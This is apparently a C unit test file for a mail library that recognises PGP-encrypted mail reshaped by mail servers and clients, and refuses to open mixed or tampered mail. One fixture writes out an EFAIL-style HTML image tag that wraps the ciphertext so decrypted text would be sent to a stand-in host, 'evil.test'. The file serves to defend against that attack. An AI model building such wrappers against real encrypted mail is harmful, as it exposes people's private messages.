/* SPDX-License-Identifier: GPL-2.0-or-later */
/* mend.c - encrypted mail as mail servers and programs rebuild it: opened when
 * it is whole and alone, and never when it is not */
#include "lib/mail/armor.h"
#include "t/unit/mail-fixture.h"
#include "t/unit/tap.h"

#define FROM "From: ada@example.com\nTo: sec@lists.example.org\n"
#define MIXED FROM "Content-Type: multipart/mixed; boundary=o\n\n"
#define ALTERNATIVE FROM "Content-Type: multipart/alternative; boundary=o\n\n"
#define ENCRYPTED FROM "Content-Type: multipart/encrypted; boundary=o; " \
	"protocol=\"application/pgp-encrypted\"\n\n"
#define PART(type) "--o\nContent-Type: " type "\n\n"
#define EMPTY PART("text/plain; charset=us-ascii") "\n"
#define CONTROL PART("application/pgp-encrypted; name=\"PGPMIME " \
	"version identification\"") "Version: 1\n\n"
#define DATA PART("application/octet-stream; name=encrypted.asc")
#define BODY "hE4D\nwcDM\n"
#define HEAD "-----BEGIN PGP MESSAGE-----\n"
#define END "-----END PGP MESSAGE-----"
#define ARMOR HEAD "\n" BODY "=8vQ1\n" END "\n"
#define CLOSED "--o--\n"
/* As it comes out of the mending. */
#define MENDED ARMOR

#define PARTS SP_FACT_PARTS_MENDED
#define TIDY SP_FACT_ARMOR_MENDED
#define MIME SP_CRYPTO_MIME_ENCRYPTED
#define INLINE SP_CRYPTO_INLINE_ENCRYPTED
#define PARTLY SP_CRYPTO_PARTLY_ENCRYPTED
#define NONE SP_CRYPTO_NONE

static const struct row {
	const char *name;
	const char *mail;
	enum sp_cryptype want;
	unsigned flags;
} rows[] = {
	/* Rebuilt, and whole. */
	{ "Exchange", MIXED EMPTY CONTROL DATA ARMOR CLOSED, MIME, PARTS },
	{ "Exchange, without the empty text", MIXED CONTROL DATA ARMOR CLOSED,
	  MIME, PARTS },
	{ "Outlook, its types changed", MIXED EMPTY
	  PART("application/octet-stream; name=\"PGPMIME version "
	       "identification\"") "Version: 1\n" DATA ARMOR CLOSED,
	  MIME, PARTS },
	{ "its types changed, in its own multipart", ENCRYPTED
	  PART("application/octet-stream") "Version: 1\n" DATA ARMOR CLOSED,
	  MIME, PARTS },
	{ "its data typed like its control part", MIXED CONTROL
	  PART("application/pgp-encrypted; name=encrypted.asc") ARMOR CLOSED,
	  MIME, PARTS },
	{ "no-break spaces for an empty text", MIXED PART("text/plain")
	  "\xc2\xa0\n \xa0\n" CONTROL DATA ARMOR CLOSED, MIME, PARTS },
	{ "Apple Mail, wrapped", MIXED PART("multipart/encrypted; boundary=e; "
	  "protocol=\"application/pgp-encrypted\"")
	  "--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\n"
	  "Content-Type: application/octet-stream\n\n" ARMOR "--e--\n"
	  CLOSED, MIME, PARTS },
	{ "Apple Mail, between empty texts", MIXED EMPTY CONTROL DATA ARMOR
	  EMPTY CLOSED, MIME, PARTS },
	{ "an empty third part", ENCRYPTED CONTROL DATA ARMOR EMPTY CLOSED,
	  MIME, PARTS },
	{ "no version part", ENCRYPTED DATA ARMOR CLOSED, MIME, PARTS },
	{ "an empty version part", ENCRYPTED
	  PART("application/pgp-encrypted") DATA ARMOR CLOSED, MIME, PARTS },
	{ "lines after the version", ENCRYPTED CONTROL
	  "X-Scanned: yes\n" DATA ARMOR CLOSED, MIME, PARTS },
	{ "no protocol", FROM "Content-Type: multipart/encrypted; boundary=o"
	  "\n\n" CONTROL DATA ARMOR CLOSED, MIME, PARTS },
	{ "an encrypted file alone", FROM
	  "Content-Type: application/octet-stream\n\n" ARMOR, INLINE, PARTS },
	{ "an encrypted file, with an empty text", MIXED EMPTY
	  PART("application/octet-stream; name=report.asc") ARMOR CLOSED,
	  INLINE, PARTS },
	{ "a text for data, after a version", MIXED CONTROL PART("text/plain")
	  ARMOR CLOSED, MIME, PARTS },
	{ "mutt of old", FROM "Content-Type: application/pgp; format=text; "
	  "x-action=encrypt\n\n" ARMOR, INLINE, PARTS },
	{ "inline, with an empty text", MIXED PART("text/plain") ARMOR EMPTY
	  CLOSED, INLINE, PARTS },
	{ "Mailvelope, with a twin", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<pre>" ARMOR "</pre>\n" CLOSED, INLINE, PARTS },
	{ "a twin with breaks", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<p>-----BEGIN&nbsp;PGP MESSAGE-----<br>\n<br>\n"
	  "hE4D<br>wcDM<br>=8vQ1<br>" END "<br></p>\n" CLOSED, INLINE, PARTS },
	{ "a twin, in Exchange's hands", MIXED
	  PART("multipart/alternative; boundary=a") "--a\n\n" ARMOR
	  "--a\nContent-Type: text/html\n\n<pre>" ARMOR "</pre>\n--a--\n"
	  EMPTY CLOSED, INLINE, PARTS },

	/* Its armor changed. */
	{ "quoted", FROM "\n> " HEAD "> \n> hE4D\n> wcDM\n> =8vQ1\n> " END
	  "\n", INLINE, TIDY },
	{ "quoted twice, without blanks", FROM "\n>>" HEAD ">>\n>>hE4D\n"
	  ">>wcDM\n>>=8vQ1\n>>" END "\n", INLINE, TIDY },
	{ "indented", FROM "\n  " HEAD "\n  hE4D\n\twcDM\n  =8vQ1\n  " END "\n",
	  INLINE, TIDY },
	{ "space-stuffed in part", FROM
	  "Content-Type: text/plain; format=flowed\n\n" HEAD
	  "\n hE4D\nwcDM\n=8vQ1\n" END "\n", INLINE, TIDY },
	{ "no-break spaces", FROM "\n" HEAD "\xc2\xa0\nhE4D\xc2\xa0\n\xa0wcDM"
	  "\n=8vQ1\xa0\n" END "\n", INLINE, TIDY },
	{ "an empty quote in front", FROM "\n>\n" ARMOR, INLINE, TIDY },
	{ "a byte order mark alone", FROM "\n\xef\xbb\xbf\n" ARMOR, INLINE,
	  TIDY },
	{ "a byte order mark", FROM "\n\xef\xbb\xbf" ARMOR, INLINE, TIDY },
	{ "no blank line", FROM "\n" HEAD BODY "=8vQ1\n" END "\n", INLINE,
	  TIDY },
	{ "no blank line after its head", FROM "\n" HEAD
	  "Version: GnuPG v2\nComment: x y\n" BODY "=8vQ1\n" END "\n", INLINE,
	  TIDY },
	{ "and in PGP/MIME", ENCRYPTED CONTROL DATA HEAD BODY "=8vQ1\n" END
	  "\n" CLOSED, MIME, TIDY },
	{ "and rebuilt by Exchange", MIXED EMPTY CONTROL DATA HEAD BODY
	  "=8vQ1\n" END "\n" CLOSED, MIME, PARTS | TIDY },

	/* Nothing to mend. */
	{ "without a checksum", FROM "\n" HEAD "\n" BODY END "\n", INLINE, 0 },
	{ "blanks at the line ends", FROM "\n-----BEGIN PGP MESSAGE----- \t\n"
	  "\nhE4D \nwcDM\t\n=8vQ1\n" END "  \n", INLINE, 0 },
	{ "a head", FROM "\n" HEAD "Version: 1\n\n" BODY "=8vQ1\n" END "\n",
	  INLINE, 0 },
	{ "empty lines within", FROM "\n" HEAD "\nhE4D\n\nwcDM\n\n=8vQ1\n\n"
	  END "\n", INLINE, 0 },
	{ "PGP/MIME", ENCRYPTED CONTROL DATA ARMOR CLOSED, MIME, 0 },

	/* Something can be read beside it. */
	{ "Exchange, with a disclaimer", MIXED PART("text/plain")
	  "This mail is confidential.\n" CONTROL DATA ARMOR CLOSED, PARTLY, 0 },
	{ "a footer as a part", MIXED CONTROL DATA ARMOR PART("text/plain")
	  "_______\nsec mailing list\n" CLOSED, PARTLY, 0 },
	{ "a footer in the text", FROM "\n" ARMOR "_______\nsec mailing list\n",
	  PARTLY, 0 },
	{ "one letter", MIXED PART("text/plain") "x" CONTROL DATA ARMOR CLOSED,
	  PARTLY, 0 },
	{ "a zero-width space", MIXED PART("text/plain") "\xe2\x80\x8b\n"
	  CONTROL DATA ARMOR CLOSED, PARTLY, 0 },
	{ "a word for a version", ENCRYPTED CONTROL "please read\n" DATA ARMOR
	  CLOSED, PARTLY, 0 },
	{ "another version", MIXED PART("application/pgp-encrypted")
	  "Version: 2\n" DATA ARMOR CLOSED, PARTLY, 0 },
	{ "two versions", MIXED CONTROL CONTROL DATA ARMOR CLOSED, PARTLY, 0 },
	{ "two messages", MIXED CONTROL DATA ARMOR DATA ARMOR CLOSED,
	  SP_CRYPTO_MIXED, 0 },
	{ "two messages in one part", MIXED CONTROL DATA ARMOR ARMOR CLOSED,
	  PARTLY, 0 },
	{ "text within the data", MIXED CONTROL DATA "hi\n" ARMOR CLOSED,
	  PARTLY, 0 },
	{ "binary data", MIXED CONTROL
	  PART("application/octet-stream; name=x.pgp") "\x84\x5e\x03\n" CLOSED,
	  PARTLY, 0 },
	{ "an attachment", MIXED CONTROL DATA ARMOR PART("image/png") "\x89PNG\n"
	  CLOSED, PARTLY, 0 },
	{ "an empty attachment", MIXED CONTROL DATA ARMOR PART("image/png")
	  CLOSED, PARTLY, 0 },
	{ "a calendar", MIXED CONTROL DATA ARMOR PART("text/calendar") CLOSED,
	  PARTLY, 0 },
	{ "a preamble that is a letter", FROM "Content-Type: multipart/mixed; "
	  "boundary=o\n\n" /* 210 bytes */
	  "0123456789012345678901234567890123456789012345678901234567890123456"
	  "78901234567890123456789012345678901234567890123456789012345678901234"
	  "5678901234567890123456789012345678901234567890123456789012345678901"
	  "23456789\n" CONTROL DATA ARMOR CLOSED, PARTLY, SP_FACT_IRREGULAR },
	{ "an epilogue", MIXED CONTROL DATA ARMOR CLOSED "and more\n", PARTLY,
	  SP_FACT_IRREGULAR },
	{ "an epilogue further in", MIXED PART("multipart/mixed; boundary=i")
	  "--i\n\n\n--i--\nand more\n" CONTROL DATA ARMOR CLOSED, PARTLY,
	  SP_FACT_IRREGULAR },
	{ "not closed", MIXED CONTROL DATA ARMOR, PARTLY, SP_FACT_IRREGULAR },
	{ "an attached message", MIXED CONTROL DATA ARMOR
	  PART("message/rfc822") "Subject: x\n\n\n" CLOSED, PARTLY, 0 },
	{ "in an attached message", FROM "Content-Type: message/rfc822\n\n"
	  ENCRYPTED CONTROL DATA ARMOR CLOSED, PARTLY, 0 },

	/* HTML beside it: EFAIL's direct exfiltration, and twins that say
	 * more. */
	{ "an image around it", MIXED PART("text/html")
	  "<img src=\"http://evil.test/" DATA ARMOR PART("text/html") "\">\n"
	  CLOSED, PARTLY, 0 },
	{ "an empty html part", MIXED PART("text/html") "<br>\n" CONTROL DATA
	  ARMOR CLOSED, PARTLY, 0 },
	{ "a twin with a word more", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<p>Hello Ada</p><pre>" ARMOR "</pre>\n" CLOSED,
	  PARTLY, 0 },
	{ "a twin in clear", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<p>the secret</p>\n" CLOSED, PARTLY, 0 },
	{ "a twin with another message", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<pre>" HEAD "\nAAAA\n=8vQ1\n" END "</pre>\n"
	  CLOSED, PARTLY, 0 },
	{ "the armor in the html alone", ALTERNATIVE PART("text/plain")
	  "no html?\n" PART("text/html") "<pre>\n" ARMOR "</pre>\n" CLOSED,
	  PARTLY, 0 },
	{ "a twin of two", ALTERNATIVE PART("text/plain") ARMOR
	  PART("text/html") "<pre>" ARMOR "</pre>" PART("text/html") "<pre>"
	  ARMOR "</pre>\n" CLOSED, PARTLY, 0 },
	{ "a twin that is no alternative", MIXED PART("text/plain") ARMOR
	  PART("text/html") "<pre>" ARMOR "</pre>\n" CLOSED, PARTLY, 0 },
	{ "an alternative without a twin", ALTERNATIVE PART("text/plain")
	  ARMOR EMPTY CLOSED, PARTLY, 0 },
	{ "a twin beside an attached message", MIXED
	  PART("multipart/alternative; boundary=a") "--a\n\n" ARMOR
	  "--a\nContent-Type: text/html\n\n<pre>" ARMOR "</pre>\n--a--\n"
	  PART("message/rfc822") "Subject: please read\n\n\n" CLOSED, PARTLY,
	  0 },
	{ "a twin in a related one", ALTERNATIVE PART("text/plain") ARMOR
	  PART("multipart/related; boundary=a") "--a\nContent-Type: text/html"
	  "\n\n<pre>" ARMOR "</pre>\n--a--\n" CLOSED, PARTLY, 0 },
	{ "two alternatives", MIXED PART("multipart/alternative; boundary=a")
	  "--a\n\n" ARMOR "--a\nContent-Type: text/html\n\n<pre>" ARMOR
	  "</pre>\n--a--\n" PART("multipart/alternative; boundary=c")
	  "--c\n\n\n--c--\n" CLOSED, PARTLY, 0 },
	{ "related", FROM "Content-Type: multipart/related; boundary=o\n\n"
	  CONTROL DATA ARMOR CLOSED, PARTLY, 0 },

	/* Armor beyond mending. */
	{ "a word in it", FROM "\n> " HEAD "> \n> hE4D\nwell, no\n> " END
	  "\n", NONE, 0 },
	{ "an answer below", FROM "\n> " HEAD "> \n> hE4D\n> =8vQ1\n> " END
	  "\n\nI cannot read this.\n", NONE, 0 },
	{ "a soft hyphen", FROM "\n> " HEAD "> \n> hE\xc2\xad" "4D\n> " END "\n",
	  NONE, 0 },
	{ "no end", FROM "\n> " HEAD "> \n> hE4D\n", NONE, 0 },
	{ "no beginning", FROM "\n> hE4D\n> " END "\n", NONE, 0 },
	{ "data after its checksum", FROM "\n> " HEAD "> \n> hE4D\n> =8vQ1\n"
	  "> hE4D\n> " END "\n", NONE, 0 },
	{ "two checksums", FROM "\n> " HEAD "> \n> hE4D\n> =8vQ1\n> =8vQ1\n> "
	  END "\n", NONE, 0 },
	{ "another kind", FROM "\n> -----BEGIN PGP PUBLIC KEY BLOCK-----\n"
	  "> \n> hE4D\n> -----END PGP PUBLIC KEY BLOCK-----\n", NONE, 0 },
	{ "a head that is none", FROM "\n> " HEAD "> Hello: there\n> :x\n> "
	  "\n> hE4D\n> " END "\n", NONE, 0 },
};

/* The OpenPGP message as it would be given to gpg. */
static char *
cipher(const struct sp_facts *f, const char *mail)
{
	gsize len;
	const char *p;

	if (!f->cipher)
		return g_strndup(mail + f->cipher_range.at,
				 f->cipher_range.len);
	p = g_bytes_get_data(f->cipher, &len);
	return g_strndup(p, len);
}

static gboolean
opens(enum sp_cryptype crypto)
{
	return crypto == MIME || crypto == INLINE;
}

static void
test_rows(const struct mail_fixture *m)
{
	for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
		const struct row *row = &rows[i];
		struct sp_facts *f = mail_parse_text(m, row->mail);
		g_autofree char *got = f ? cipher(f, row->mail) : NULL;

		ok(f && f->crypto == row->want && f->flags == row->flags,
		   "%s: %d, flags %x", row->name, f ? (int)f->crypto : -1,
		   f ? f->flags : 0);
		ok(f && (opens(row->want)
			 ? strstr(got, "hE4D") && strstr(got, "wcDM") &&
			   !strchr(got, '>')
			 : !f->cipher && f->cipher_range.len == 0),
		   "%s", opens(row->want) ? "its message and nothing else"
		   : "nothing that could be opened");
		ok(f && (!(row->flags & TIDY) || strcmp(got, MENDED) == 0),
		   "tidy where it had to be");
		sp_facts_free(f);
	}
}

/* Is this what comes of mending: one message, and no byte of another kind? */
static gboolean
is_tidy(GBytes *mended)
{
	gsize len;
	const char *p = g_bytes_get_data(mended, &len);
	struct sp_range block;

	return sp_armor_whole((const uint8_t *)p, len, SP_ARMOR_MESSAGE,
			      &block) &&
	       strspn(p + strlen(HEAD), "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
		      "abcdefghijklmnopqrstuvwxyz0123456789+/=\n") +
	       strlen(HEAD END "\n") == len;
}

/* With any byte more anywhere, it is mended to a message, or left alone. */
static void
test_armor(const char *text, const char *name)
{
	unsigned wrong = 0, mended = 0, whole = 0;

	for (gsize i = 0; i < 256 * strlen(text); i++) {
		g_autoptr(GString) s = g_string_new(text);
		g_autoptr(GBytes) out = NULL;
		struct sp_range block;

		g_string_insert_c(s, (gssize)(i / 256), (gchar)(i % 256));
		switch (sp_armor_mend((const uint8_t *)s->str, s->len, &out)) {
		case SP_ARMOR_BEYOND:
			wrong += out != NULL;
			break;
		case SP_ARMOR_WHOLE:
			whole++;
			wrong += !sp_armor_whole((const uint8_t *)s->str,
				s->len, SP_ARMOR_MESSAGE, &block);
			break;
		case SP_ARMOR_MENDED:
			mended++;
			wrong += !is_tidy(out);
			break;
		}
	}
	ok(wrong == 0 && mended > 0, "%s: %u whole, %u mended, %u wrongly",
	   name, whole, mended, wrong);
}

int
main(void)
{
	struct mail_fixture m = mail_fixture("");

	test_rows(&m);
	test_armor(ARMOR, "armor and a byte");
	test_armor("> " HEAD "> \n> hE4D\n> wcDM\n> =8vQ1\n> " END "\n",
		   "quoted armor and a byte");
	mail_fixture_clear(&m);
	return tap_done();
}
